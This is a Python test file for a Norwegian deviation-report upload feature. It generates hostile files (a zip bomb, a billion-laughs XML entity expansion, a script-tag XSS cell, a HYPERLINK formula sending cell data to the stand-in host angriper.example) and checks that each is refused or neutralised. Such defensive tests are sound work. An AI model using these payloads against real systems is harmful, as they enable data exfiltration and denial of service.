"""A corpus of broken and hostile upload files, built here, each with the message it must get.

A file that cannot be read is refused next to the upload field and leaves nothing behind (no
import batch, no deviation). A file that can be read but carries hostile content reaches the
preview, where the row says what is wrong, and still nothing is saved.
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from openpyxl import Workbook

from deviations.models import Deviation, ImportBatch
from tests.deviations.test_import import HEADER, ROWS
from tests.spreadsheet_files import (
    MAIN,
    declare_encrypted,
    declare_size,
    rows_xml,
    sheet_xml,
    table_workbook,
    workbook_bytes,
)

pytestmark = pytest.mark.django_db
UPLOAD = reverse("deviations:import_upload")
NBSP = "\u00a0"
NOT_XLSX = "Filen kunne ikke leses som et Excel-ark (.xlsx). Er den skadet? Prøv å lagre den på nytt i Excel."
WRONG_TYPE = "Filen kunne ikke leses som et Excel-ark (.xlsx). Er den skadet, eller en annen filtype?"


def csv_bytes(rows, header=HEADER, delimiter=";", encoding="utf-8") -> bytes:
    return "\n".join(delimiter.join(row) for row in [header, *rows]).encode(encoding)


def good_xlsx() -> bytes:
    workbook = Workbook()
    for row in [HEADER, *ROWS]:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_cell(column: str, value_xml: str, *, cell_type: str = "inlineStr", style: str = "") -> bytes:
    """The header and one row of ROWS[1] as inline text, with one cell replaced by raw XML."""
    rows = rows_xml([HEADER, ROWS[1]])
    column_number = HEADER.index(column) + 1
    letter = "ABCDEFGHIJKLMN"[column_number - 1]
    start = rows.index(f'<c r="{letter}2"')
    end = rows.index("</c>", start) + len("</c>")
    style_attribute = f' s="{style}"' if style else ""
    replaced = f'<c r="{letter}2" t="{cell_type}"{style_attribute}>{value_xml}</c>'
    return workbook_bytes(sheet_xml(rows[:start] + replaced + rows[end:]), styles=DATE_STYLES if style else None)


DATE_STYLES = (
    f'<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
)


def truncated() -> bytes:
    data = good_xlsx()
    return data[: len(data) // 2]


def zip_bomb() -> bytes:
    return workbook_bytes(sheet_xml(rows_xml([HEADER, ROWS[1]])), extra={"xl/media/image1.png": b"\0" * 30_000_000})


def declaring(size: int) -> bytes:
    data = bytearray(workbook_bytes(sheet_xml(rows_xml([HEADER, *ROWS]))))
    declare_size(data, "xl/worksheets/sheet1.xml", size)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(good_xlsx())
    declare_encrypted(data, "xl/workbook.xml")
    return bytes(data)


def no_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hei.txt", "ikke et regneark")
    return buffer.getvalue()


def no_sheets() -> bytes:
    data = workbook_bytes(sheet_xml(rows_xml([HEADER])))
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "xl/workbook.xml":
                content = f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()
            archive.writestr(info, content)
    return target.getvalue()


def billion_laughs() -> bytes:
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return workbook_bytes(
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet xmlns="{MAIN}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>'
    )


def rows_out_of_order() -> bytes:
    return workbook_bytes(sheet_xml(rows_xml([HEADER, ROWS[0]]) + rows_xml([ROWS[1]], first=2)))


def missing_shared_string() -> bytes:
    shared = f'<sst xmlns="{MAIN}"><si><t>Saksnummer</t></si></sst>'
    return workbook_bytes(sheet_xml('<row r="1"><c r="A1" t="s"><v>7</v></c></row>'), shared_strings=shared)


def far_cell() -> bytes:
    rows = rows_xml([HEADER, ROWS[1]]) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return workbook_bytes(sheet_xml(rows, dimension="A1:XFD1048576"))


def too_many_columns() -> bytes:
    return csv_bytes([[*ROWS[1], *(["x"] * 100)]], header=[*HEADER, *(f"Ekstra {n}" for n in range(100))])


def nul_after_4_kb() -> bytes:
    rows = [[f"AVV-{n:05d}", *ROWS[1][1:]] for n in range(60)]
    rows[50][6] = "Dose\x00ikke gitt."
    data = csv_bytes(rows)
    assert data.index(b"\x00") > 4096
    return data


def long_cell() -> bytes:
    row = list(ROWS[1])
    row[6] = "x" * 40_000
    return csv_bytes([row])


def unclosed_quote() -> bytes:
    row = list(ROWS[1])
    row[6] = '"Dose ikke gitt' + "." * 140_000
    return csv_bytes([row])


REFUSED = {
    "empty csv": ("uttrekk.csv", lambda: b"", "Filen er tom."),
    "empty xlsx": ("uttrekk.xlsx", lambda: b"", "Filen er tom."),
    "text named xlsx": ("uttrekk.xlsx", lambda: csv_bytes(ROWS), WRONG_TYPE),
    "pdf named xlsx": ("uttrekk.xlsx", lambda: b"%PDF-1.7\n" + b"0" * 500, WRONG_TYPE),
    "truncated zip": ("uttrekk.xlsx", truncated, NOT_XLSX),
    "zip without a workbook": ("uttrekk.xlsx", no_workbook, NOT_XLSX),
    "workbook without sheets": ("uttrekk.xlsx", no_sheets, "Excel-filen har ingen ark."),
    "zip bomb": (
        "uttrekk.xlsx", zip_bomb,
        "Filen pakker seg ut til mer enn 100 ganger sin egen størrelse og leses ikke. Lagre arket på nytt i Excel.",
    ),
    "declared size too large": (
        "uttrekk.xlsx", lambda: declaring(60 * 1024 * 1024),
        "Excel-filen er for stor når den pakkes ut (60 MB; høyst 50 MB). Del den opp i mindre filer.",
    ),
    "declared size too small": ("uttrekk.xlsx", lambda: declaring(200), NOT_XLSX),
    "encrypted zip entry": (
        "uttrekk.xlsx", encrypted,
        "Filen er kryptert eller beskyttet med passord. Fjern passordet, og lagre den på nytt som .xlsx.",
    ),
    "password-protected workbook": (
        "uttrekk.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000,
        "Filen er i det gamle Excel-formatet (.xls) eller beskyttet med passord. "
        "Fjern eventuelt passordet, og lagre den som .xlsx eller .csv.",
    ),
    "old excel": (
        "uttrekk.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000,
        "Det gamle Excel-formatet (.xls) kan ikke leses. Lagre filen som .xlsx eller .csv.",
    ),
    "other file type": ("uttrekk.ods", good_xlsx, "Last opp en .xlsx- eller .csv-fil."),
    "entity expansion": ("uttrekk.xlsx", billion_laughs, NOT_XLSX),
    "rows out of order": ("uttrekk.xlsx", rows_out_of_order, NOT_XLSX),
    "missing shared string": ("uttrekk.xlsx", missing_shared_string, NOT_XLSX),
    "far cell under a lying dimension": (
        "uttrekk.xlsx", far_cell,
        "Rad 1048576 har innhold i kolonne XFD. Filen kan ha høyst 100 kolonner; slett de ekstra kolonnene.",
    ),
    "NUL in a workbook cell": (
        "uttrekk.xlsx", lambda: with_cell("Hva skjedde", "<is><t>Dose_x0000_ikke gitt</t></is>"),
        "Cellen G2 har et NUL-tegn, som ikke kan lagres. Fjern det og prøv igjen.",
    ),
    "infinite number": (
        "uttrekk.xlsx", lambda: with_cell("Alvorlighetsgrad", "<v>1E400</v>", cell_type="n"),
        "Cellen F2 har et tall som er for stort: «1E400».",
    ),
    "text in a number cell": (
        "uttrekk.xlsx", lambda: with_cell("Alvorlighetsgrad", "<v>alvorlig</v>", cell_type="n"),
        "Cellen F2 skal ha et tall, men har «alvorlig».",
    ),
    "date far outside the calendar": (
        "uttrekk.xlsx", lambda: with_cell("Registrert", "<v>1e12</v>", cell_type="n", style="1"),
        "Cellen E2 har en dato som ikke kan leses: «1e12».",
    ),
    "too many columns": (
        "uttrekk.csv", too_many_columns,
        "Rad 1 har innhold i kolonne CW. Filen kan ha høyst 100 kolonner; slett de ekstra kolonnene.",
    ),
    "a cell too long": (
        "uttrekk.csv", long_cell, f"Cellen G2 har 40{NBSP}000 tegn. En celle kan ha høyst 32{NBSP}767 tegn."
    ),
    "unclosed quote": (
        "uttrekk.csv", unclosed_quote,
        f"Rad 2 har en celle med flere enn 131{NBSP}072 tegn. Er et anførselstegn uten partner?",
    ),
    "NUL after the first 4 KB": (
        "uttrekk.csv", nul_after_4_kb,
        "Filen ser ikke ut som en tekstfil (.csv): det står et NUL-tegn på linje 52. "
        "Lagre uttrekket som CSV eller .xlsx.",
    ),
    "binary csv": (
        "uttrekk.csv", lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100,
        "Filen ser ikke ut som en tekstfil (.csv): det står et NUL-tegn i starten av filen. "
        "Lagre uttrekket som CSV eller .xlsx.",
    ),
    "workbook named csv": (
        "uttrekk.csv", good_xlsx,
        "Filen ser ikke ut som en tekstfil (.csv): det står et NUL-tegn i starten av filen. "
        "Lagre uttrekket som CSV eller .xlsx.",
    ),
    "utf-16 without its mark": (
        "uttrekk.csv", lambda: csv_bytes(ROWS, encoding="utf-16-le"),
        "Filen ser ikke ut som en tekstfil (.csv): det står et NUL-tegn i starten av filen. "
        "Lagre uttrekket som CSV eller .xlsx.",
    ),
    "unknown encoding": (
        "uttrekk.csv", lambda: csv_bytes(ROWS) + b"\x81\x8d\x8f",
        "Tegnene i filen kunne ikke leses. Lagre den som CSV med UTF-8.",
    ),
    "only blank rows": ("uttrekk.csv", lambda: b"\n;;;\n\r\n", "Filen har ingen rader."),
    "header without rows": ("uttrekk.xlsx", lambda: table_workbook([HEADER]),
                            "Filen har kolonnenavn, men ingen avvik under dem."),
    "unknown columns": (
        "uttrekk.csv", lambda: b"Navn;Personnummer\nOla;01010112345\n",
        "Filen mangler kolonnene Saksnummer, Kategori, Virksomhet, Hendelsesdato, Registrert, Alvorlighetsgrad, "
        "Hva skjedde, Status. Første rad må ha kolonnenavnene Saksnummer, Kategori, Virksomhet, Hendelsesdato, "
        "Registrert, Alvorlighetsgrad, Hva skjedde, Status (og gjerne Strakstiltak, Tiltak, Læring, Lukket, "
        "Til sykehus, Sykehus).",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_a_broken_or_hostile_file_is_refused_with_its_message(registrator_client, categories, unit, name, content,
                                                                message):  # fmt: skip
    response = registrator_client.post(UPLOAD, {"file": SimpleUploadedFile(name, content())})
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [message]
    assert escape(message) in response.content.decode()
    assert not ImportBatch.objects.exists()
    assert not Deviation.objects.exists()


def test_a_file_over_the_largest_size_is_refused_at_once(registrator_client, settings, categories, unit):
    settings.IMPORT_MAX_MB = 5  # larger files than the request reads go to a job, up to this size
    upload = SimpleUploadedFile("uttrekk.csv", b"x" * (5 * 1024 * 1024 + 1))
    response = registrator_client.post(UPLOAD, {"file": upload})
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == ["Filen er for stor. Den kan være høyst 5 MB."]
    assert not ImportBatch.objects.exists()


# -- readable files with hostile content: the preview says what is wrong, nothing is saved ---------


def formula_csv() -> bytes:
    row = list(ROWS[1])
    row[6] = '=HYPERLINK("http://angriper.example/?"&A1,"Klikk")'
    return csv_bytes([row])


def uncalculated_formula() -> bytes:
    return with_cell("Hva skjedde", "<f>CONCAT(A2;B2)</f><v></v>", cell_type="str")


def fodselsnummer() -> bytes:
    row = list(ROWS[1])
    row[6] = "Pasient 150385 12363 fikk feil dose."
    return csv_bytes([row])


def understated_dimension() -> bytes:
    rows = [[f"AVV-2016-{n:05d}", *ROWS[1][1:]] for n in range(1, 6)]
    return table_workbook([HEADER, *rows], dimension="A1:N2")


def script_in_cell() -> bytes:
    row = list(ROWS[1])
    row[1] = "<script>alert(1)</script>"
    return csv_bytes([row])


READABLE = {
    "dimension claiming fewer rows": ("uttrekk.xlsx", understated_dimension, "Lagre 5 avvik"),
    "formula typed in a text cell": (
        "uttrekk.csv", formula_csv, "Lagre 1 avvik",
    ),
    "formula never calculated in a required cell": (
        "uttrekk.xlsx", uncalculated_formula, "Hva skjedde: Feltet må fylles ut.",
    ),
    "fødselsnummer split in groups": (
        "uttrekk.csv", fodselsnummer, "Hva skjedde: Teksten ser ut til å inneholde et fødselsnummer.",
    ),
    "markup in a cell": (
        "uttrekk.csv", script_in_cell,
        "Kategori: Ukjent kategori «&lt;script&gt;alert(1)&lt;/script&gt;».",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "message"), READABLE.values(), ids=READABLE.keys())
def test_a_readable_file_with_hostile_content_is_previewed_and_nothing_is_saved(
    registrator_client, categories, unit, name, content, message
):
    response = registrator_client.post(UPLOAD, {"file": SimpleUploadedFile(name, content())}, follow=True)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert "<script>alert(1)</script>" not in response.content.decode()
    assert not Deviation.objects.exists()


def test_a_formula_typed_in_a_cell_is_kept_as_the_text_typed(registrator_client, categories, unit):
    response = registrator_client.post(UPLOAD, {"file": SimpleUploadedFile("uttrekk.csv", formula_csv())}, follow=True)
    registrator_client.post(reverse("deviations:import_preview", args=[response.context["batch"].pk]))
    assert Deviation.objects.get().description == '=HYPERLINK("http://angriper.example/?"&A1,"Klikk")'
